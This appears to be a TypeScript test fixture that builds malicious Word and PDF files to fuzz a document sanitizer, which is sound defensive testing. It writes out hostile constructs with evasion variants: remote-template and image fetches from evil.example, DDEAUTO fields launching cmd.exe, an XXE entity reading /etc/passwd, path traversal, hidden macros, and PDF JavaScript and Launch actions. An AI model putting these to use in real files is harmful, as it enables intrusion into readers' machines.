import { deflateSync } from 'node:zlib';
import { archive, pdf } from './fuzz-files.ts';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const WORDML = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
const HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

const kinds = (more = '') =>
  `${HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="${WORDML}.document.main+xml"/>${more}</Types>`;
const paragraph = (inner: string) => `${HEAD}<w:document ${W}><w:body><w:p>${inner}</w:p></w:body></w:document>`;
const relations = (inner: string) =>
  `${HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
const relation = (type: string, rest: string) => `<Relationship Id="rId9" Type="${OFFICE}/${type}" ${rest}/>`;

const WORD = {
  '[Content_Types].xml': kinds(),
  '_rels/.rels': relations(`<Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/>`),
  'word/document.xml': paragraph('<w:r><w:t>Hello</w:t></w:r>'),
};
/** A Word document with added or replaced parts. */
export const docx = (more: Record<string, string> = {}, mode = 0): Buffer => archive({ ...WORD, ...more }, mode);

const RELS = 'word/_rels/document.xml.rels';
const DOCUMENT = 'word/document.xml';
const SETTINGS = 'word/_rels/settings.xml.rels';
const EVIL = 'Target="http://evil.example/t"';
const field = (...codes: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const link = (use: string) => ({
  [RELS]: relations(relation('hyperlink', `${EVIL} TargetMode="External"`)),
  [DOCUMENT]: paragraph(use).replace('<w:document', `<w:document xmlns:r="${OFFICE}"`),
});

/** Allowed content: links a person clicks, fields of the document itself, a picture. */
export const HARMLESS_WORDS: Readonly<Record<string, Buffer>> = {
  'a link to click': docx(link('<w:hyperlink r:id="rId9"><w:r><w:t>here</w:t></w:r></w:hyperlink>')),
  'the number of its page': docx({ [DOCUMENT]: paragraph(field(' PA', 'GE ')) }),
  'a link as a field': docx({ [DOCUMENT]: paragraph(field(' HYPERLINK "https://example.in" ')) }),
};

/** Word documents that would run or fetch something, each in a way that a search of the text alone misses. */
export const fuzzWordFiles = (): Record<string, Buffer> => ({
  'a template in single quotes': docx({
    [SETTINGS]: relations(relation('attachedTemplate', "Target='http://evil.example/t' TargetMode='External'")),
  }),
  'a template with blanks around the sign': docx({
    [SETTINGS]: relations(relation('attachedTemplate', `Target = "http://evil.example/t" TargetMode = "External"`)),
  }),
  'a template under a prefix': docx({
    [SETTINGS]: `<p:Relationships xmlns:p="x"><p:Relationship Id="a" Type="${OFFICE}/attachedTemplate" ${EVIL} TargetMode="External"/></p:Relationships>`,
  }),
  'a template in .RELS': docx({
    'word/_rels/settings.xml.RELS': relations(relation('attachedTemplate', `${EVIL} TargetMode="External"`)),
  }),
  'a template without saying that it is outside': docx({ [SETTINGS]: relations(relation('attachedTemplate', EVIL)) }),
  'a picture from outside that says hyperlink': docx({
    [RELS]: relations(relation('image', `${EVIL} TargetMode="External" Note="/hyperlink"`)),
  }),
  'a picture from outside without the mode': docx({ [RELS]: relations(relation('image', EVIL)) }),
  'a mode in numbers': docx({ [RELS]: relations(relation('image', `${EVIL} TargetMode="&#69;xternal"`)) }),
  'a link that is used as a picture': docx(link('<a:blip xmlns:a="x" r:link="rId9"/>')),
  'a link that is used as a frame': docx(link('<w:frame r:id="rId9"/>')),
  'a link to a file': docx({
    [RELS]: relations(relation('hyperlink', 'Target="file:///c:/x.exe" TargetMode="External"')),
  }),
  'a link to a share': docx({ [RELS]: relations(relation('hyperlink', 'Target="\\\\evil\\x" TargetMode="External"')) }),
  'a type nobody knows': docx({ [RELS]: relations('<Relationship Id="r" Type="http://x/new" Target="x.xml"/>') }),
  'DDEAUTO over two runs': docx({ [DOCUMENT]: paragraph(field(' DDE', 'AUTO c:\\\\windows\\\\cmd.exe ')) }),
  'DDE as a simple field': docx({ [DOCUMENT]: paragraph('<w:fldSimple w:instr=" dde cmd "/>') }),
  INCLUDEPICTURE: docx({ [DOCUMENT]: paragraph(field(' INCLUDEPICTURE "http://evil.example/p" \\d ')) }),
  'a field whose name another field makes': docx({ [DOCUMENT]: paragraph(field(field(' QUOTE 68 68 69 '))) }),
  'a field that never ends': docx({
    [DOCUMENT]: paragraph('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>'),
  }),
  'a link field to a share': docx({ [DOCUMENT]: paragraph(field(' HYPERLINK "\\\\evil\\x" ')) }),
  'a picture by its source': docx({ [DOCUMENT]: paragraph('<v:imagedata xmlns:v="v" src="http://evil.example/p"/>') }),
  'a part of HTML': docx({
    '[Content_Types].xml': kinds('<Default Extension="html" ContentType="text/html"/>'),
    'word/part.html': '<script>alert(1)</script>',
    [RELS]: relations(relation('aFChunk', 'Target="part.html"')),
  }),
  'HTML that says it is a picture': docx({ 'word/media/a.png': '<script>alert(1)</script>' }),
  'macros under another name': docx({
    '[Content_Types].xml': kinds(
      '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
    ),
    'word/x.xml': 'x',
  }),
  'a document with macros by its kind': docx({
    '[Content_Types].xml': kinds().replace(
      `${WORDML}.document.main+xml`,
      'application/vnd.ms-word.document.macroEnabled.main+xml',
    ),
  }),
  'macros in capitals': docx({ 'word/VBAPROJECT.BIN': 'x' }),
  'an embedded object': docx({ 'word/embeddings/oleObject1.bin': 'x' }),
  'an object in the text': docx({ [DOCUMENT]: paragraph('<o:OLEObject xmlns:o="o" Type="Link"/>') }),
  'a part that is another document': docx({ [DOCUMENT]: paragraph('<w:altChunk r:id="x" xmlns:r="r"/>') }),
  'a mail merge': docx({ 'word/settings.xml': `<w:settings ${W}><w:mailMerge/></w:settings>` }),
  'a document type': docx({ 'word/other.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
  'an instruction to the reader': docx({ 'word/other.xml': '<?xml-stylesheet href="http://evil.example"?><a/>' }),
  'another writing declared': docx({ 'word/other.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
  'two parts of one name': docx({ 'WORD/document.xml': paragraph('') }),
  'a way out of the folder': docx({ '../../etc/cron.d/x.xml': 'x' }),
  'a symbolic link': docx({ 'word/link.xml': '/etc/passwd' }, 0o120777),
  'UTF-16': withUtf16({ [SETTINGS]: relations(relation('attachedTemplate', `${EVIL} TargetMode="External"`)) }),
  'a document type in UTF-16': withUtf16({ 'word/other.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
});

/** Parts encoded in UTF-16, byte for byte (the archive of the tests takes latin letters). */
function withUtf16(parts: Record<string, string>): Buffer {
  const wide = Object.entries(parts).map(([name, text]) => [name, Buffer.from(`\ufeff${text}`, 'utf16le')] as const);
  return archive({ ...WORD, ...Object.fromEntries(wide) });
}

/** Many unclosed relationships, which make a quadratic regular expression slow. */
export const unclosedRelations = (bytes: number): Buffer =>
  docx({ [RELS]: '<Relationship '.repeat(Math.ceil(bytes / 14)) });

const SECTOR = 512;
/** A compound file of these entries: storages by `true`, streams by their content. */
export function compound(entries: readonly (readonly [string, true | string])[]): Buffer {
  const directory = Buffer.alloc(Math.ceil((entries.length + 1) / 4) * SECTOR);
  const put = (at: number, name: string, type: number) => {
    directory.write(name, at * 128, 'utf16le');
    directory.writeUInt16LE(name.length * 2 + 2, at * 128 + 64);
    directory.writeUInt8(type, at * 128 + 66);
  };
  put(0, 'Root Entry', 5);
  entries.forEach(([name, content], at) => put(at + 1, name, content === true ? 1 : 2));
  const sectors = directory.length / SECTOR;
  const table = Buffer.alloc(SECTOR, 0xff);
  table.writeUInt32LE(0xfffffffd, 0);
  for (let at = 1; at <= sectors; at += 1) table.writeUInt32LE(at === sectors ? 0xfffffffe : at + 1, at * 4);
  const head = Buffer.alloc(SECTOR);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(head);
  head.writeUInt16LE(9, 30);
  head.writeUInt32LE(1, 44);
  head.writeUInt32LE(1, 48);
  const text = entries.map(([, content]) => (content === true ? '' : content)).join('');
  const content = Buffer.alloc(Math.ceil(Math.max(1, text.length) / SECTOR) * SECTOR);
  content.write(text, 'latin1');
  return Buffer.concat([head, table, directory, content]);
}

/** A Word 97 document with more entries in its directory. */
export const doc = (...more: (readonly [string, true | string])[]): Buffer =>
  compound([['WordDocument', 'Hello'], ['1Table', ''], ['\u0005SummaryInformation', ''], ...more]);

export const fuzzOldWordFiles = (): Record<string, Buffer> => ({
  macros: doc(['Macros', true], ['VBA', true], ['_VBA_PROJECT', 'x']),
  'macros in other letters': doc(['mACROS', true]),
  'embedded objects': doc(['ObjectPool', true], ['_1234567890', true]),
  'an object of a package': doc(['\u0001Ole10Native', 'x']),
  'no document': compound([['Workbook', 'x']]),
  'a field that starts a program': compound([['WordDocument', 'a\u0013 DDEAUTO c:\\cmd.exe \u0015b']]),
  'a directory that goes in circles': circling(),
  'a compound file that is no document': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4000)]),
});

function circling(): Buffer {
  const bytes = doc();
  bytes.writeUInt32LE(1, SECTOR + 4);
  return bytes;
}

const flate = (text: string): string => deflateSync(Buffer.from(text, 'latin1')).toString('latin1');
const SCRIPT = '1 0 << /S /JavaScript /JS (app.alert(1)) >>';
const packed = (head: string, content: string, before = '') =>
  `<< ${head} /N 1 /First 4 >>${before}\nstream\n${content}\nendstream`;
const catalog = (more: string): Buffer => {
  const plain = pdf().toString('latin1');
  return Buffer.from(plain.replace('/Type /Catalog', `/Type /Catalog ${more}`), 'latin1');
};

/** PDFs with content that runs, sends, opens or fetches. They are rejected, or the output has none of it. */
export const fuzzPdfs = (): Record<string, Buffer> => ({
  script: catalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
  'script with a hidden name': catalog('/OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >>'),
  'an address to open': catalog('/OpenAction << /S /URI /URI (http://evil.example) >>'),
  'a program to launch': catalog('/AA << /WC << /S /Launch /F (cmd.exe) >> >>'),
  'a form that is sent': catalog('/AcroForm << /Fields [] /XFA (x) >>'),
  'a file inside': catalog('/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>'),
  'script in a packed stream': pdf(packed('/Type /ObjStm /Filter /FlateDecode', flate(SCRIPT))),
  'script packed twice': pdf(packed('/Type /ObjStm /Filter [/FlateDecode /FlateDecode]', flate(flate(SCRIPT)))),
  'script packed in hex': pdf(
    packed(
      '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]',
      `${Buffer.from(flate(SCRIPT), 'latin1').toString('hex')}>`,
    ),
  ),
  'a packed stream of another name': pdf(packed('/Type /Obj#53tm /Filter /FlateDecode', flate(SCRIPT))),
  'a long dictionary before it': pdf(
    packed(`/Type /ObjStm /Note (${'x'.repeat(500)}) /Filter /FlateDecode`, flate(SCRIPT)),
  ),
  'a remark before it': pdf(packed('/Type /ObjStm /Filter /FlateDecode', flate(SCRIPT), ' %remark')),
  'another file drawn': pdfWithPage(
    '/Resources << /XObject << /X 4 0 R >> >>',
    '<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (http://evil.example/x.pdf) /Page 0 >> /Length 0 >>\nstream\n\nendstream',
  ),
  'a page that runs': pdfWithPage('/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>', ''),
  'a link on the page': pdfWithPage(
    '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://evil.example) >> >>]',
    '',
  ),
  'a font that lies elsewhere': pdfWithPage(
    '/Resources << /Font << /F 4 0 R >> >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /X /FontDescriptor << /FontFile 5 0 R /F (http://evil.example) /URI (x) >> >>',
  ),
});

function pdfWithPage(page: string, more: string): Buffer {
  const plain = pdf(more).toString('latin1');
  return Buffer.from(plain.replace('/Type /Page /Parent', `/Type /Page ${page} /Parent`), 'latin1');
}
